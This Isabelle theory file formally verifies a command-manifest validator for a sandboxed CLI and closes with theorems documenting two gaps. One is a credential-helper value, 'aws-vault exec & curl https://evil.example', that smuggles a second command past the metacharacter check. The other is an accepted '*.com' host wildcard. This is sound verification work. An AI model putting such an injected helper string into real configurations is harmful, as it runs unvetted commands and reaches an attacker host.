(* ===== verification/Command_Properties.thy ===== *)
theory Command_Properties
  imports Command_Profiles
begin

text \<open>
  What validation of a manifest buys: commands checked against a valid manifest are decided without
  a runtime error, and exactly the commands that fit a declared pattern and avoid the denied
  subcommands and flags are allowed.
\<close>

section \<open>What a valid manifest contains\<close>

lemma failing_Nil [simp]: "failing c e = [] \<longleftrightarrow> \<not> c"
  by (simp add: failing_def)

definition patternWf :: "allowedArgvPattern \<Rightarrow> bool" where
  "patternWf p \<longleftrightarrow> (\<exists>tokens. pat_tokens p = Some tokens \<and> tokens \<noteq> [] \<and>
     (\<forall>t \<in> set (butlast tokens). \<not> isRestPlaceholder t) \<and> (length tokens = 1 \<longrightarrow> \<not> isRestPlaceholder (hd tokens)))"

definition profileWf :: "commandProfile \<Rightarrow> bool" where
  "profileWf p \<longleftrightarrow> (\<exists>ps. prof_allowedArgvPatterns p = Some ps \<and> ps \<noteq> [] \<and> (\<forall>q \<in> set ps. patternWf q)) \<and>
     prof_deniedSubcommands p \<noteq> None"

lemma valid_pattern:
  assumes "validateArgvPattern name p = []"
  shows "patternWf p"
proof -
  from assms obtain first rest where t: "get_or [] (pat_tokens p) = first # rest"
    by (auto simp: validateArgvPattern_def split: list.splits)
  then have tokens: "pat_tokens p = Some (first # rest)" by (cases "pat_tokens p") auto
  have alone: "rest = [] \<Longrightarrow> \<not> isRestPlaceholder first"
    and ordered: "\<forall>(i, token) \<in> set (enumerate 0 (first # rest)). \<not> (isRestPlaceholder token \<and> i < length rest)"
    using assms t by (auto simp: validateArgvPattern_def)
  have "\<forall>i < length rest. \<not> isRestPlaceholder ((first # rest) ! i)"
  proof (intro allI impI)
    fix i
    assume i: "i < length rest"
    then have "(i, (first # rest) ! i) \<in> set (enumerate 0 (first # rest))"
      unfolding in_set_enumerate_eq by (simp del: nth_Cons_Suc)
    with ordered i show "\<not> isRestPlaceholder ((first # rest) ! i)" by fast
  qed
  then have "\<forall>x \<in> set (butlast (first # rest)). \<not> isRestPlaceholder x"
    by (metis in_set_conv_nth length_butlast length_Cons diff_Suc_1 nth_butlast)
  with tokens alone show ?thesis by (auto simp: patternWf_def)
qed

lemma valid_profile:
  assumes "validateProfile mode name p = []"
  shows "profileWf p"
proof -
  from assms have subs: "prof_deniedSubcommands p \<noteq> None" by (auto simp: validateProfile_def split: option.splits)
  from assms obtain q qs where "get_or [] (prof_allowedArgvPatterns p) = q # qs"
    by (auto simp: validateProfile_def split: list.splits)
  moreover from this have "prof_allowedArgvPatterns p = Some (q # qs)" by (cases "prof_allowedArgvPatterns p") auto
  ultimately show ?thesis
    using assms subs by (auto simp: validateProfile_def profileWf_def intro: valid_pattern)
qed

lemma valid_manifest_profiles:
  assumes "validateManifest m = []"
  obtains profiles where "man_commandProfiles m = Some profiles" "profiles \<noteq> []" "\<forall>(n, p) \<in> set profiles. profileWf p"
proof -
  from assms have e: "profileErrors m = []" by (simp add: validateManifest_def)
  then obtain q qs where q: "get_or [] (man_commandProfiles m) = q # qs"
    by (auto simp: profileErrors_def split: list.splits)
  moreover from this have "man_commandProfiles m = Some (q # qs)" by (cases "man_commandProfiles m") auto
  ultimately show ?thesis using e that by (fastforce simp: profileErrors_def intro: valid_profile)
qed

section \<open>Patterns\<close>

text \<open>
  The reference reading of a pattern: one argument per token, and for a last token \<open><name...>\<close> one
  argument or more.
\<close>

definition tokenFits :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "tokenFits token arg \<longleftrightarrow> isPlaceholder token \<or> token = arg"

definition argvFits :: "string list \<Rightarrow> string list \<Rightarrow> bool" where
  "argvFits tokens argv \<longleftrightarrow>
     (if isRestPlaceholder (last tokens)
      then \<exists>args more. argv = args @ more \<and> more \<noteq> [] \<and> list_all2 tokenFits (butlast tokens) args
      else list_all2 tokenFits tokens argv)"

lemma matchTokens_fits:
  assumes "tokens \<noteq> []" "\<forall>t \<in> set (butlast tokens). \<not> isRestPlaceholder t"
  shows "matchTokens tokens argv \<longleftrightarrow> argvFits tokens argv"
  using assms
proof (induction tokens arbitrary: argv)
  case (Cons t ts)
  show ?case
  proof (cases "ts = []")
    case True
    then show ?thesis
      by (cases "isRestPlaceholder t"; cases argv) (auto simp: argvFits_def tokenFits_def list_all2_Cons1)
  next
    case False
    then have t: "\<not> isRestPlaceholder t" and IH: "matchTokens ts as \<longleftrightarrow> argvFits ts as" for as
      using Cons by auto
    have rest: "(\<exists>args more. a # as = args @ more \<and> more \<noteq> [] \<and> list_all2 tokenFits (t # butlast ts) args) \<longleftrightarrow>
        tokenFits t a \<and> (\<exists>args more. as = args @ more \<and> more \<noteq> [] \<and> list_all2 tokenFits (butlast ts) args)" for a as
      by (auto simp: list_all2_Cons1 Cons_eq_append_conv)
    show ?thesis
      using False t IH rest
      by (cases argv) (auto simp: argvFits_def tokenFits_def list_all2_Cons1)
  qed
qed simp

section \<open>Commands\<close>

lemma matchPatterns_wf:
  assumes "\<forall>p \<in> set ps. patternWf p"
  shows "\<exists>r. matchPatterns argv ps = Some r \<and>
    ((\<exists>n. r = Some n) \<longleftrightarrow> (\<exists>p \<in> set ps. \<exists>tokens. pat_tokens p = Some tokens \<and> argvFits tokens argv))"
  using assms
proof (induction ps)
  case (Cons p ps)
  then obtain tokens where p: "pat_tokens p = Some tokens" "matchTokens tokens argv \<longleftrightarrow> argvFits tokens argv"
    using matchTokens_fits [of _ argv] by (auto simp: patternWf_def)
  show ?case
  proof (cases "argvFits tokens argv")
    case True
    with p show ?thesis by (auto simp: matchesArgvPattern_def)
  next
    case False
    with p Cons show ?thesis by (auto simp: matchesArgvPattern_def)
  qed
qed simp

definition profileAllows :: "string list \<Rightarrow> commandProfile \<Rightarrow> bool" where
  "profileAllows argv p \<longleftrightarrow>
     (\<exists>ps q tokens. prof_allowedArgvPatterns p = Some ps \<and> q \<in> set ps \<and> pat_tokens q = Some tokens \<and> argvFits tokens argv)"

lemma matchProfiles_wf:
  assumes "\<forall>(n, p) \<in> set profiles. profileWf p"
  shows "\<exists>r. matchProfiles argv profiles = Some r \<and> ((\<exists>x. r = Some x) \<longleftrightarrow> (\<exists>(n, p) \<in> set profiles. profileAllows argv p))"
  using assms
proof (induction profiles)
  case (Cons np profiles)
  obtain n p where np: "np = (n, p)" by fastforce
  with Cons.prems obtain ps where ps: "prof_allowedArgvPatterns p = Some ps" "\<forall>q \<in> set ps. patternWf q"
    by (auto simp: profileWf_def)
  from matchPatterns_wf [OF ps(2), of argv] obtain r where
    r: "matchPatterns argv ps = Some r" "(\<exists>n. r = Some n) \<longleftrightarrow> profileAllows argv p"
    using ps(1) by (auto simp: profileAllows_def)
  from Cons show ?case
    by (cases r) (use r ps np in auto)
qed simp

lemma firstSome_None: "firstSome f xs = None \<longleftrightarrow> (\<forall>x \<in> set xs. f x = None)"
  by (induction xs) (auto split: option.splits)

text \<open>What is denied, over all profiles of the manifest.\<close>

definition deniedSubcommand :: "secureCommandManifest \<Rightarrow> string list \<Rightarrow> bool" where
  "deniedSubcommand m argv \<longleftrightarrow>
     (\<exists>profiles n p subs sub. man_commandProfiles m = Some profiles \<and> (n, p) \<in> set profiles \<and>
        prof_deniedSubcommands p = Some subs \<and> sub \<in> set subs \<and> (\<exists>rest. argv = splitSpaces sub @ rest))"

definition flagHits :: "string \<Rightarrow> string \<Rightarrow> bool" where
  "flagHits flag arg \<longleftrightarrow>
     arg = flag \<or> (startsWith arg ''-'' \<and> CHR ''='' \<notin> set flag \<and> (\<exists>v. arg = flag @ CHR ''='' # v))"

definition deniedFlag :: "secureCommandManifest \<Rightarrow> string list \<Rightarrow> bool" where
  "deniedFlag m argv \<longleftrightarrow>
     (\<exists>profiles n p flags flag arg. man_commandProfiles m = Some profiles \<and> (n, p) \<in> set profiles \<and>
        prof_deniedFlags p = Some flags \<and> flag \<in> set flags \<and> arg \<in> set argv \<and>
        flagHits flag arg)"

lemma subcommandMatches_prefix: "subcommandMatches argv sub \<longleftrightarrow> (\<exists>rest. argv = splitSpaces sub @ rest)"
  by (auto simp: subcommandMatches_def Let_def) (metis append_take_drop_id)

lemma takeWhile_eq_sign:
  "CHR ''='' \<in> set arg \<and> takeWhile (\<lambda>c. c \<noteq> CHR ''='') arg = flag \<longleftrightarrow> CHR ''='' \<notin> set flag \<and> (\<exists>v. arg = flag @ CHR ''='' # v)"
proof (induction arg arbitrary: flag)
  case (Cons a arg)
  then show ?case by (cases flag) auto
qed simp

lemma deniedFlagIn_iff:
  "deniedFlagIn flags arg = None \<longleftrightarrow>
     \<not> (\<exists>flag \<in> set flags. flagHits flag arg)"
proof -
  have "startsWith arg ''-'' \<and> CHR ''='' \<in> set arg \<and> takeWhile (\<lambda>c. c \<noteq> CHR ''='') arg \<in> set flags \<longleftrightarrow>
      (\<exists>flag \<in> set flags. startsWith arg ''-'' \<and> CHR ''='' \<notin> set flag \<and> (\<exists>v. arg = flag @ CHR ''='' # v))"
    using takeWhile_eq_sign by metis
  then show ?thesis unfolding deniedFlagIn_def flagHits_def by (smt (verit, best) option.distinct(1))
qed

lemma valid_manifest_decided:
  assumes "validateManifest m = []"
  obtains r where "validateCommand m argv = Some r"
    "(\<exists>name pattern. r = CommandAllowed name pattern) \<longleftrightarrow>
       argv \<noteq> [] \<and> \<not> deniedSubcommand m argv \<and> \<not> deniedFlag m argv \<and>
       (\<exists>profiles n p. man_commandProfiles m = Some profiles \<and> (n, p) \<in> set profiles \<and> profileAllows argv p)"
proof -
  obtain profiles where m: "man_commandProfiles m = Some profiles" and wf: "\<forall>(n, p) \<in> set profiles. profileWf p"
    using valid_manifest_profiles [OF assms] by metis
  define subs where "subs = concat (map (\<lambda>(n, p). the (prof_deniedSubcommands p)) profiles)"
  have present: "\<forall>(n, p) \<in> set profiles. \<exists>xs. prof_deniedSubcommands p = Some xs" using wf by (auto simp: profileWf_def)
  then have subs: "deniedSubcommandsOf profiles = Some subs"
    by (auto simp: deniedSubcommandsOf_def list_all_iff subs_def)
  have mem: "x \<in> set subs \<longleftrightarrow> (\<exists>n p xs. (n, p) \<in> set profiles \<and> prof_deniedSubcommands p = Some xs \<and> x \<in> set xs)" for x
  proof -
    have "x \<in> set subs \<longleftrightarrow> (\<exists>n p. (n, p) \<in> set profiles \<and> x \<in> set (the (prof_deniedSubcommands p)))"
      by (simp add: subs_def split_beta Bex_def)
    moreover have "(n, p) \<in> set profiles \<Longrightarrow> \<exists>xs. prof_deniedSubcommands p = Some xs" for n p using present by blast
    ultimately show ?thesis by (metis option.sel)
  qed
  have sub: "find (subcommandMatches argv) subs \<noteq> None \<longleftrightarrow> deniedSubcommand m argv"
    unfolding find_Some_ex subcommandMatches_prefix deniedSubcommand_def m Bex_def mem by (simp only: option.inject) blast
  have flags: "x \<in> set (deniedFlagsOf profiles) \<longleftrightarrow> (\<exists>n p xs. (n, p) \<in> set profiles \<and> prof_deniedFlags p = Some xs \<and> x \<in> set xs)" for x
  proof -
    have "x \<in> set (get_or [] ys) \<longleftrightarrow> (\<exists>xs. ys = Some xs \<and> x \<in> set xs)" for ys :: "string list option" by (cases ys) auto
    then show ?thesis by (simp add: deniedFlagsOf_def split_beta Bex_def)
  qed
  have flag: "firstSome (deniedFlagIn (deniedFlagsOf profiles)) argv \<noteq> None \<longleftrightarrow> deniedFlag m argv"
    unfolding firstSome_None deniedFlagIn_iff deniedFlag_def m Bex_def flags by (simp only: option.inject) blast
  obtain r where r: "matchProfiles argv profiles = Some r"
    "(\<exists>x. r = Some x) \<longleftrightarrow> (\<exists>(n, p) \<in> set profiles. profileAllows argv p)"
    using matchProfiles_wf [OF wf] by metis
  show ?thesis
  proof (cases "argv = [] \<or> deniedSubcommand m argv \<or> deniedFlag m argv")
    case True
    then have "\<exists>e. validateCommand m argv = Some e \<and> (\<forall>name pattern. e \<noteq> CommandAllowed name pattern)"
      using m subs sub flag by (cases "argv = []"; cases "deniedSubcommand m argv") (auto simp: validateCommand_def)
    with True that show ?thesis by blast
  next
    case False
    then have "validateCommand m argv = Some (case r of Some (name, pattern) \<Rightarrow> CommandAllowed name pattern | None \<Rightarrow> NoPatternMatches)"
      using m subs sub flag r(1) by (auto simp: validateCommand_def split: option.splits)
    with False r(2) m that show ?thesis by (cases r) fastforce+
  qed
qed

text \<open>
  C40: a manifest that passes validation is well-formed for the command check: whatever the
  arguments, the check reaches a verdict and never reads a missing list.
\<close>

theorem valid_manifest_no_runtime_error:
  assumes "validateManifest m = []"
  shows "\<exists>verdict. validateCommand m argv = Some verdict"
  using valid_manifest_decided [OF assms] by metis

text \<open>
  C39: under a valid manifest exactly these commands are allowed: the arguments are not empty, do not
  begin with a denied subcommand of any profile, contain no denied flag of any profile, alone or
  with a value attached by \<open>=\<close>, and fit a pattern of some profile, token by token.
\<close>

theorem command_allowed_exactly:
  assumes "validateManifest m = []"
  shows "(\<exists>name pattern. validateCommand m argv = Some (CommandAllowed name pattern)) \<longleftrightarrow>
    argv \<noteq> [] \<and> \<not> deniedSubcommand m argv \<and> \<not> deniedFlag m argv \<and>
    (\<exists>profiles n p. man_commandProfiles m = Some profiles \<and> (n, p) \<in> set profiles \<and> profileAllows argv p)"
proof -
  obtain r where r: "validateCommand m argv = Some r"
    "(\<exists>name pattern. r = CommandAllowed name pattern) \<longleftrightarrow>
       argv \<noteq> [] \<and> \<not> deniedSubcommand m argv \<and> \<not> deniedFlag m argv \<and>
       (\<exists>profiles n p. man_commandProfiles m = Some profiles \<and> (n, p) \<in> set profiles \<and> profileAllows argv p)"
    using valid_manifest_decided [OF assms] .
  show ?thesis unfolding r(1) option.inject by (rule r(2))
qed

section \<open>A concrete manifest\<close>

definition demoManifest :: "string \<Rightarrow> secureCommandManifest" where
  "demoManifest helper =
     \<lparr>man_schemaVersion = ''1'', man_bundleDigest = ''abc'', man_bundleId = ''gh-cli'', man_version = ''2.0.0'',
      man_entrypoint = ''bin/gh'',
      man_commandProfiles = Some [(''read'', \<lparr>prof_description = ''read repositories'',
        prof_allowedArgvPatterns = Some [\<lparr>pat_name = ''api-call'', pat_tokens = Some [''api'', ''<endpoint>'', ''<more...>'']\<rparr>],
        prof_deniedSubcommands = Some [''auth login''], prof_deniedFlags = Some [''--exec''],
        prof_allowedNetworkTargets = Some [\<lparr>tgt_hostPattern = ''*.github.com'', tgt_ports = Some [IntNum 443],
          tgt_protocols = Some [''https'']\<rparr>]\<rparr>)],
      man_authAdapter = Some (CredentialProcessAdapter helper ''GH_TOKEN'' None),
      man_egressMode = ''proxy_required'', man_cleanConfigDirs = Some [(''~/.config/gh'', ''GitHub CLI config'')]\<rparr>"

lemma demoManifest_valid: "validateManifest (demoManifest ''AWS_PROFILE=x aws-vault exec'') = []"
  by code_simp

theorem valid_manifest_no_runtime_error_witness:
  "validateManifest (demoManifest ''AWS_PROFILE=x aws-vault exec'') = [] \<and>
   (\<exists>verdict. validateCommand (demoManifest ''AWS_PROFILE=x aws-vault exec'') [''auth'', ''login''] = Some verdict)"
  using valid_manifest_no_runtime_error [OF demoManifest_valid] demoManifest_valid by blast

theorem command_allowed_exactly_witness:
  "validateCommand (demoManifest ''AWS_PROFILE=x aws-vault exec'') [''api'', ''/repos'', ''--json''] =
     Some (CommandAllowed ''read'' ''api-call'') \<and>
   profileAllows [''api'', ''/repos'', ''--json''] (snd (hd (the (man_commandProfiles (demoManifest ''AWS_PROFILE=x aws-vault exec'')))))"
proof -
  have a: "validateCommand (demoManifest ''AWS_PROFILE=x aws-vault exec'') [''api'', ''/repos'', ''--json''] =
      Some (CommandAllowed ''read'' ''api-call'')"
    by code_simp
  with command_allowed_exactly [OF demoManifest_valid, of "[''api'', ''/repos'', ''--json'']"]
  show ?thesis by (auto simp: demoManifest_def)
qed

text \<open>
  The list of shell metacharacters misses the single ampersand: a helper that starts a denied binary
  in a second command is accepted.
\<close>

theorem ampersand_helper_accepted: "validateManifest (demoManifest ''aws-vault exec & curl https://evil.example'') = []"
  by code_simp

text \<open>A wildcard on a whole top-level domain is accepted as a host pattern.\<close>

theorem top_level_wildcard_accepted:
  "validateNetworkTarget ''p'' 0 \<lparr>tgt_hostPattern = ''*.com'', tgt_ports = None, tgt_protocols = None\<rparr> = []"
  by code_simp

end
